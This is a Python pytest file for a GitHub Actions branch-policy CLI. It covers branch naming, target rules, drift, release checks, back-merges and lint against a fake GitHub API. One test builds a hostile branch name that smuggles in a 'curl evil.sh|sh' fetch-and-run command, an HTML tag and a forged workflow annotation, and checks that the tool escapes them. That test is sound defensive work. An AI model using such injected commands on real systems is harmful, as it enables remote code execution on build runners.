"""branch-policy through the CLI as a workflow step runs it: GitHub's webhook examples, a real
git history for drift, and the API double for the release checks, the back-merge and lint."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mlops_actions import cli
from tests.support.events import load_event, retarget
from tests.support.github_double import GitHubDouble
from tests.support.label_dispatch import parse_outputs

REPO = "acme/trainer"
TOKEN = "ghs_branchpolicytoken"


@dataclass
class Step:
    code: int
    stdout: str
    stderr: str
    outputs: dict[str, str]
    summary: str

    @property
    def violations(self) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = json.loads(self.outputs["violations"])
        return found

    @property
    def rules(self) -> list[str]:
        return [v["rule"] for v in self.violations]


def step(
    workdir: Path,
    *args: str,
    event: dict[str, Any] | None = None,
    event_name: str = "pull_request",
    double: GitHubDouble | None = None,
    config: str | None = None,
) -> Step:
    """`mlops-actions branch-policy ARGS` with the runner's files in `workdir`."""
    workdir.mkdir(parents=True, exist_ok=True)
    out_file, summary_file = workdir / "github_output", workdir / "step_summary"
    for f in (out_file, summary_file):
        f.write_text("")
    env = {"GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workdir)}
    env.update({"GITHUB_OUTPUT": str(out_file), "GITHUB_STEP_SUMMARY": str(summary_file)})
    if event is not None:
        (workdir / "event.json").write_text(json.dumps(event))
        env.update(GITHUB_EVENT_NAME=event_name, GITHUB_EVENT_PATH=str(workdir / "event.json"))
    if double is not None:
        env.update(GITHUB_API_URL=double.url, GITHUB_TOKEN=TOKEN, GITHUB_REPOSITORY=REPO)
        env["MLOPS_ACTIONS_WRITE_INTERVAL"] = "0"
    if config is not None:
        (workdir / ".github").mkdir(exist_ok=True)
        (workdir / ".github" / "mlops.yml").write_text(config)
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = cli.main(["branch-policy", *args], env)
    outputs = parse_outputs(out_file.read_text())
    return Step(code, out.getvalue(), err.getvalue(), outputs, summary_file.read_text())


def pr_event(name: str, head: str, base: str, **fields: Any) -> dict[str, Any]:
    overrides = {"pull_request.head.ref": head, "pull_request.base.ref": base}
    overrides.update({f"pull_request.{k}": v for k, v in fields.items()})
    return retarget(load_event(name), overrides=overrides)


# -- names and targets from the event, no token -----------------------------------------------
def test_opened_example_as_sent_fails_on_its_branch_name(tmp_path: Path) -> None:
    result = step(tmp_path, event=load_event("pull_request.opened"))
    assert result.code == 1
    assert result.rules == ["BP001"]
    assert result.outputs["ok"] == "false" and result.outputs["kind"] == ""
    (line,) = [ln for ln in result.stdout.splitlines() if ln.startswith("::error")]
    assert line.startswith("::error::BP001 unknown-kind: changes -> master: ")
    assert "`changes` → `master`" in result.summary


def test_synchronize_of_a_feature_into_develop_passes(tmp_path: Path) -> None:
    event = pr_event("pull_request.synchronize", "feature/12-amp", "develop")
    result = step(tmp_path, event=event)
    assert result.code == 0, result.stdout
    assert result.outputs["ok"] == "true" and result.outputs["kind"] == "feature"
    assert result.violations == []


def test_a_retargeted_pull_request_is_checked_again(tmp_path: Path) -> None:
    # GitHub's edited payload: the base moved from develop to master.
    event = pr_event("pull_request.edited", "feature/12-amp", "main")
    result = step(tmp_path, event=event)
    assert result.code == 1
    (violation,) = result.violations
    assert violation["rule"] == "BP003" and violation["base"] == "main"
    assert violation["fix"] == "retarget this PR to develop"
    assert (
        "retargeted from develop" in result.stdout and "retargeted from develop" in result.summary
    )


def test_fork_pull_request_target_with_a_hostile_branch_name(tmp_path: Path) -> None:
    hostile = "feature/$(curl evil.sh|sh)`x`<img src=x>\n::warning::forged"
    event = retarget(
        load_event("pull_request.opened"),
        head_repo="someone/Hello-World",
        overrides={"pull_request.head.ref": hostile, "pull_request.base.ref": "main"},
    )
    result = step(tmp_path, event=event, event_name="pull_request_target")
    assert result.code == 1
    assert result.rules == ["BP002", "BP003"]
    # One annotation line per violation; the newline cannot start a workflow command.
    errors = [ln for ln in result.stdout.splitlines() if ln.startswith("::error")]
    assert len(errors) == 2
    assert not [ln for ln in result.stdout.splitlines() if ln.startswith("::warning")]
    assert "%0A" not in errors[0] and "\\n" in errors[0]  # shown() quotes odd names
    # In the summary the name is one code span on one line: no HTML, no broken table.
    assert "``feature/$(curl evil.sh\\|sh)`x`<img src=x> ::warning::forged``" in result.summary
    assert result.summary.count("<img") == 1
    assert json.loads(result.outputs["violations"])[0]["head"] == hostile


def test_events_that_cannot_change_branches_are_skipped(tmp_path: Path) -> None:
    labeled = step(tmp_path / "a", event=load_event("pull_request.labeled"))
    assert labeled.code == 0 and labeled.outputs["ok"] == "true"
    assert "nothing to check" in labeled.stdout
    push = step(tmp_path / "b", event=load_event("push"), event_name="push")
    assert push.code == 0 and "not a pull request event" in push.stdout


def test_local_flags_need_both_names(tmp_path: Path) -> None:
    ok = step(tmp_path / "a", "--head", "hotfix/v2.4.2", "--base", "main")
    assert ok.code == 0 and ok.outputs["version"] == "2.4.2"
    half = step(tmp_path / "b", "--head", "feature/x")
    assert half.code == 2
    assert "input `base`: is needed too" in half.stdout and "Traceback" not in half.stderr


def test_a_bad_config_fails_with_file_and_line(tmp_path: Path) -> None:
    result = step(
        tmp_path, "--head", "feature/x", "--base", "develop",
        config="branch-policy:\n  trunk-base: true\n",
    )  # fmt: skip
    assert result.code == 2
    assert result.stdout.startswith(
        "::error file=.github/mlops.yml,line=2,col=3,title=ConfigError::"
        "`branch-policy.trunk-base`: unknown key"
    )
    assert "did you mean `trunk-based`?" in result.stdout


# -- drift against a real history ---------------------------------------------------------------
def git(root: Path, *args: str, when: str = "2026-01-01T12:00:00") -> str:
    env = dict(os.environ, GIT_AUTHOR_DATE=when, GIT_COMMITTER_DATE=when)
    env.update(GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@x", GIT_COMMITTER_NAME="t")
    env["GIT_COMMITTER_EMAIL"] = "t@x"
    done = subprocess.run(
        ["git", "-C", str(root), *args], env=env, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def history(root: Path, behind: int, days: int) -> None:
    """develop, and feature/drifting cut from it; develop then gains `behind` commits over
    `days` days."""
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "develop")
    git(root, "commit", "-q", "--allow-empty", "-m", "start")
    git(root, "branch", "feature/drifting")
    for i in range(behind):
        day = 1 + (days * (i + 1)) // behind
        when = f"2026-01-{day:02d}T12:00:00" if day <= 31 else f"2026-02-{day - 31:02d}T12:00:00"
        git(root, "commit", "-q", "--allow-empty", "-m", f"c{i}", when=when)


def test_drift_warns_with_the_rebase_fix_and_does_not_fail(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    history(root, behind=6, days=20)
    result = step(
        root, "--head", "feature/drifting", "--base", "develop",
        config="branch-policy:\n  drift: {max-commits: 5, max-days: 14}\n",
    )  # fmt: skip
    assert result.code == 0
    (warning,) = result.violations
    assert warning["rule"] == "BP007" and warning["severity"] == "warning"
    assert (
        "6 commits (limit 5) and 20 days (limit 14) behind its target develop" in warning["message"]
    )
    assert "git rebase origin/<target>" in warning["fix"]


def test_drift_of_a_synchronize_event_reads_the_event_shas(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    history(root, behind=60, days=3)
    event = pr_event(
        "pull_request.synchronize",
        "feature/drifting",
        "develop",
        **{"head.sha": git(root, "rev-parse", "feature/drifting")},
        **{"base.sha": git(root, "rev-parse", "develop")},
    )
    git(root, "branch", "-D", "feature/drifting")  # a PR clone has the commits, not the branch
    result = step(root, event=event)
    assert result.code == 0
    (warning,) = result.violations
    assert warning["message"] == "the head is 60 commits (limit 50) behind its target develop"


def test_drift_within_limits_is_a_note(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    history(root, behind=3, days=2)
    result = step(root, "--head", "feature/drifting", "--base", "develop")
    assert result.code == 0 and result.violations == []
    assert "3 commit(s), 2 day(s) behind the base" in result.stdout


# -- with a token: release checks -----------------------------------------------------------------
def seed(double: GitHubDouble) -> Any:
    state = double.state
    state.add_token(TOKEN, "github-actions[bot]")
    repo = state.add_repo(REPO)
    state.add_branch(repo, "develop")
    state.add_release(repo, "v2.5.0", name="2.5.0")
    state.add_milestone(repo, "v2.6.0")
    state.add_milestone(repo, "v2.7.0", state="closed")
    return repo


@pytest.mark.parametrize(
    ("head", "config", "expected"),
    [
        ("release/2.6.0", None, []),
        ("release/v2.5.0", None, ["BP005"]),
        ("hotfix/2.4.9", None, ["BP005"]),
        ("release/2.6.0", "milestone-release: {}\n", []),
        ("release/2.7.0", "milestone-release: {}\n", ["BP006"]),  # its milestone is closed
        ("release/2.8.0", "branch-policy:\n  release-checks: {milestone: required}\n", ["BP006"]),
        ("release/2.5.0", "branch-policy:\n  release-checks: {newer-than-latest: false}\n", []),
    ],
)
def test_release_checks_read_the_latest_release_and_open_milestones(
    github_double: GitHubDouble, tmp_path: Path, head: str, config: str | None, expected: list[str]
) -> None:
    seed(github_double)
    event = pr_event("pull_request.opened", head, "main")
    result = step(tmp_path, event=event, double=github_double, config=config)
    assert result.rules == expected, result.stdout
    assert result.code == (1 if expected else 0)
    assert github_double.log.writes() == []


# -- after the merge: the back-merge into develop -------------------------------------------------
def merged_release(double: GitHubDouble) -> dict[str, Any]:
    repo = seed(double)
    sha = double.state.add_commit(repo, "Release 2.6.0", branch="main").sha
    return pr_event(
        "pull_request.opened",
        "release/2.6.0",
        "main",
        merged=True,
        state="closed",
        merge_commit_sha=sha,
    ) | {"action": "closed"}


BACK_MERGE_OPEN = "branch-policy:\n  release-checks: {back-merge: open}\n"


def test_back_merge_is_opened_once_and_found_on_rerun(
    github_double: GitHubDouble, tmp_path: Path
) -> None:
    event = merged_release(github_double)
    first = step(tmp_path, event=event, double=github_double, config=BACK_MERGE_OPEN)
    assert first.code == 0, first.stdout
    writes = github_double.log.writes()
    assert [(w.method, w.path) for w in writes] == [("POST", f"/repos/{REPO}/pulls")]
    assert writes[0].body["head"] == "main" and writes[0].body["base"] == "develop"
    url = first.outputs["back-merge-url"]
    assert url.endswith("/pull/1")
    github_double.log.clear()

    again = step(tmp_path, event=event, double=github_double, config=BACK_MERGE_OPEN)
    assert again.code == 0
    assert github_double.log.writes() == []  # never sent twice
    assert again.outputs["back-merge-url"] == url
    assert "back-merge pending in #1" in again.stdout


def test_back_merge_warns_by_default_and_is_quiet_once_develop_has_it(
    github_double: GitHubDouble, tmp_path: Path
) -> None:
    event = merged_release(github_double)
    warned = step(tmp_path / "a", event=event, double=github_double)
    assert warned.code == 0 and warned.rules == ["BP009"]
    assert github_double.log.writes() == []

    repo = github_double.state.repo(REPO)
    repo.refs["refs/heads/develop"] = repo.refs["refs/heads/main"]  # the back-merge landed
    done = step(tmp_path / "b", event=event, double=github_double, config=BACK_MERGE_OPEN)
    assert done.code == 0 and done.violations == []
    assert "back-merge done: develop holds the merged release" in done.stdout
    assert github_double.log.writes() == []


def test_a_feature_merge_needs_no_back_merge(github_double: GitHubDouble, tmp_path: Path) -> None:
    seed(github_double)
    event = pr_event("pull_request.opened", "feature/x", "develop", merged=True) | {
        "action": "closed"
    }
    result = step(tmp_path, event=event, double=github_double, config=BACK_MERGE_OPEN)
    assert result.code == 0 and "no back-merge needed" in result.stdout
    # Once merged, a name or target the gate refused is history: the closed event does not fail.
    into_main = pr_event("pull_request.opened", "wip", "main", merged=True) | {"action": "closed"}
    late = step(tmp_path / "late", event=into_main, double=github_double)
    assert late.code == 0 and late.violations == []
    unmerged = pr_event("pull_request.opened", "release/2.6.0", "main") | {"action": "closed"}
    dropped = step(tmp_path / "dropped", event=unmerged, double=github_double)
    assert dropped.code == 0 and "closed without merging" in dropped.stdout
    assert github_double.log.entries == []


# -- lint -----------------------------------------------------------------------------------------
def test_lint_warns_when_merge_commits_are_off_or_protection_forbids_them(
    github_double: GitHubDouble, tmp_path: Path
) -> None:
    repo = seed(github_double)
    allowed = step(tmp_path / "a", "lint", double=github_double)
    assert allowed.code == 0 and allowed.violations == []
    assert "main takes merge commits" in allowed.stdout
    assert "develop takes merge commits" in allowed.stdout

    repo.allow_merge_commit = False
    repo.linear_history.add("develop")
    refused = step(tmp_path / "b", "--mode", "lint", double=github_double)
    assert refused.code == 0 and refused.rules == ["BP008", "BP008"]
    settings, protection = refused.violations
    assert "allows no merge commits" in settings["message"]
    assert "Allow merge commits" in settings["fix"]
    assert protection["message"].startswith("branch protection of develop requires a linear")
    lines = [ln for ln in refused.stdout.splitlines() if ln.startswith("::warning")]
    assert lines[0].startswith("::warning::BP008 no-merge-commits: the repository allows no")
    assert github_double.log.writes() == []


def test_lint_without_a_token_says_what_to_pass(tmp_path: Path) -> None:
    result = step(tmp_path, "--mode", "lint")
    assert result.code == 2 and "needs a token" in result.stdout


# -- what the check imports -----------------------------------------------------------------------
def test_a_name_check_imports_no_client_yaml_schema_or_packaging(tmp_path: Path) -> None:
    """The name/target check stays cheap: PyGithub, requests, packaging, yaml and jsonschema are
    imported only by the checks that use them (token checks, a config file)."""
    probe = (
        "import sys\n"
        "from mlops_actions import cli\n"
        "code = cli.main(['branch-policy', '--head', 'release/2.5.0', '--base', 'main'], {})\n"
        "heavy = {'github', 'requests', 'packaging', 'yaml', 'jsonschema'} & set(sys.modules)\n"
        "print(sorted(heavy), code)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    assert done.stdout.splitlines()[-1] == "[] 0", done.stdout + done.stderr


def test_a_back_merge_opened_meanwhile_by_another_run_is_found(
    github_double: GitHubDouble,
) -> None:
    """Two runs at once: GitHub refuses the second pull request for the same head and base
    (422), and the client answers with the one the other run opened."""
    from mlops_actions.branch_policy.gh import PolicyClient
    from mlops_actions.github_client import ClientOptions, connect

    repo = seed(github_double)
    github_double.state.add_commit(repo, "Release 2.6.0", branch="main")
    other = github_double.state.add_pull(repo, "Back-merge", head="main", base="develop")
    client = PolicyClient(
        connect(TOKEN, ClientOptions(api_url=github_double.url, retries=0, write_interval=0)),
        REPO,
    )
    found = client.create_pull("main", "develop", "Back-merge main into develop", "body")
    assert found.number == other.number
    assert [e.status for e in github_double.log.matching("POST", f"/repos/{REPO}/pulls")] == [422]
